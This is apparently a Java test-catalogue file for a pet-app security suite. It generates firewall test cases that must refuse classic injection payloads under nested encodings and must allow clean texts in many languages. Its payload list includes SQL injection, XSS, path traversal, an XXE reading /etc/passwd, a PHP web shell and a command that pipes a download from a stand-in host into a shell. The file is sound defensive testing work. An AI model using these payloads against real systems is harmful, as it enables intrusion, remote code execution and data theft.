package com.petmatch.security.testkit.catalogue;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

/** Rows 48, 65 and 66: injection under nested encodings, calls led inward, look-ups; and clean texts that must pass. */
final class Payloads {

    private static final Integer[] REFUSALS = {400, 403, 404, 406, 422};
    // A floor for any firewall over a whole corpus; how much ours finds is measured by its own tests.
    private static final double FOUND = 0.8;
    private static final List<String> VALUES = List.of(
            "sqli", "xss", "shell", "traversal", "lfi", "rfi", "php", "node", "ssti", "ldap", "nosql", "xxe", "crlf");
    private static final List<String> CLASSICS = List.of(
            "' OR 1=1 -- ",
            "1 UNION SELECT username, password FROM users -- ",
            "'; DROP TABLE pets; --",
            "1' AND SLEEP(5) AND '1'='1",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(document.cookie)>",
            "\"><script>alert(1)</script>",
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "; cat /etc/passwd",
            "| id; uname -a",
            "$(curl http://probe.example/x | sh)",
            "<?php system($_GET['c']); ?>",
            "{{7*7}}{{config.__class__.__init__.__globals__}}",
            "*)(uid=*))(|(uid=*",
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "require('child_process').exec('id')");
    private static final List<String> LANGUAGES = List.of(
            "en", "de", "fr", "es", "it", "nl", "pl", "tr", "ru", "ar", "hi", "bn", "th", "vi", "id", "ja", "ko",
            "pt-BR", "zh-Hans", "zh-Hant");

    private Payloads() {}

    static Stream<Family> families() {
        return Stream.of(injections(), inward(), lookUps());
    }

    private static Family injections() {
        Family family = Family.of(48, "injection under nested encodings", "1.2.4", "1.2.5", "1.3.7")
                .needing(Control.FIREWALL);
        for (Place place : Place.values()) {
            family.needing(place.route());
            for (int i = 0; i < CLASSICS.size(); i++) {
                classic(family, place, i);
            }
            VALUES.forEach(file -> corpus(family, place, file));
            LANGUAGES.forEach(language -> clean(family, place, language));
        }
        family.needing(Fact.OPEN_GET);
        for (int i : List.of(0, 1, 4, 8, 10)) {
            spellings().forEach((name, spelled) -> encoded(family, i, name, spelled));
        }
        return family;
    }

    private static void classic(Family family, Place place, int number) {
        family.add(
                "classic-" + number + "-" + name(place),
                Expectation.refused(REFUSALS),
                facts -> Exchange.of(place.with(facts, CLASSICS.get(number))).beside(honest(facts, place)));
    }

    private static void encoded(Family family, int number, String name, UnaryOperator<String> spelled) {
        family.add(
                "classic-" + number + "-" + name,
                Expectation.refused(REFUSALS),
                facts -> Exchange.of(Place.QUERY.with(facts, CLASSICS.get(number), spelled))
                        .beside(honest(facts, Place.QUERY)));
    }

    private static void corpus(Family family, Place place, String file) {
        Expectation found = new Expectation.MostRefused(FOUND, Set.of(REFUSALS));
        family.add(
                "corpus-" + file + "-" + name(place),
                found,
                facts -> Exchange.of(all(facts, place, "attack/" + file)).beside(honest(facts, place)));
    }

    private static void clean(Family family, Place place, String language) {
        family.add(
                "clean-" + Names.of(language) + "-" + name(place),
                Expectation.allowed(),
                facts -> Exchange.of(clean(facts, place, language)));
    }

    private static List<AttackRequest> all(TargetFacts facts, Place place, String corpus) {
        return Corpus.lines(corpus).stream()
                .map(line -> place.with(facts, line))
                .toList();
    }

    // A few of each language: more would meet the limit of one client.
    private static List<AttackRequest> clean(TargetFacts facts, Place place, String language) {
        return Corpus.lines("clean/" + language).stream()
                .filter(line -> !line.startsWith("{") && !line.startsWith("["))
                .limit(15)
                .map(line -> place.with(facts, line))
                .toList();
    }

    private static AttackRequest honest(TargetFacts facts, Place place) {
        return place.with(facts, "A walk in the park with Bella");
    }

    private static String name(Place place) {
        return place.name().toLowerCase(Locale.ROOT);
    }

    private static Map<String, UnaryOperator<String>> spellings() {
        Map<String, UnaryOperator<String>> spellings = new LinkedHashMap<>();
        spellings.put("percent-twice", Place::urlencoded);
        spellings.put("percent-three-times", text -> Place.urlencoded(Place.urlencoded(text)));
        spellings.put(
                "percent-five-times",
                text -> Place.urlencoded(Place.urlencoded(Place.urlencoded(Place.urlencoded(text)))));
        spellings.put("percent-u", Payloads::percentU);
        spellings.put("html-decimal", text -> entities(text, "&#%d;"));
        spellings.put("html-hex", text -> entities(text, "&#x%x;"));
        return spellings;
    }

    private static String percentU(String text) {
        StringBuilder spelled = new StringBuilder();
        text.chars().forEach(c -> spelled.append(String.format(Locale.ROOT, "%%u%04x", c)));
        return spelled.toString();
    }

    private static String entities(String text, String pattern) {
        StringBuilder spelled = new StringBuilder();
        text.chars().forEach(c -> spelled.append(String.format(Locale.ROOT, pattern, c)));
        return spelled.toString();
    }

    private static Family inward() {
        Family family = Family.of(65, "calls of ours led inward", "1.3.6", "13.2.4", "15.3.2")
                .needing(Control.FIREWALL);
        for (Place place : Place.values()) {
            family.needing(place.route());
            corpus(family, place, "ssrf");
        }
        return family;
    }

    private static Family lookUps() {
        Family family = Family.of(66, "deserialisation, look-ups and expressions", "1.5.2", "1.3.2", "1.3.8")
                .needing(Control.FIREWALL);
        for (Place place : Place.values()) {
            family.needing(place.route());
            corpus(family, place, "java");
        }
        return family;
    }
}
